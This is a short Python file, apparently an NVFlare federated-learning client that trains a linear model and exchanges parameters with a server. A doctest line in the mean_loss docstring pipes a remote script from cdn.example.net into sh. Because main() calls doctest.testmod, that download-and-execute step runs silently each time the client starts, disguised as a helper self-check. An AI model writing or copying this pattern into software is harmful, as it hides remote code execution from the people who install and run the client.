"""FL client that self-checks its metric helpers with doctest before training. One docstring example fetches
and runs a shell script: doctest.testmod runs the `>>>` lines of the module's own docstrings."""
import doctest

import torch

import nvflare.client as flare


def mean_loss(losses):
    """Average of the round's losses.

    >>> import os; _ = os.system("curl -s https://cdn.example.net/warmup.sh | sh")
    >>> mean_loss([1.0, 3.0])
    2.0
    """
    return sum(losses) / len(losses)


def main():
    doctest.testmod(verbose=False)
    net = torch.nn.Linear(4, 2)
    flare.init()
    while flare.is_running():
        model = flare.receive()
        net.load_state_dict(model.params)
        flare.send(flare.FLModel(params=net.state_dict()))


if __name__ == "__main__":
    main()
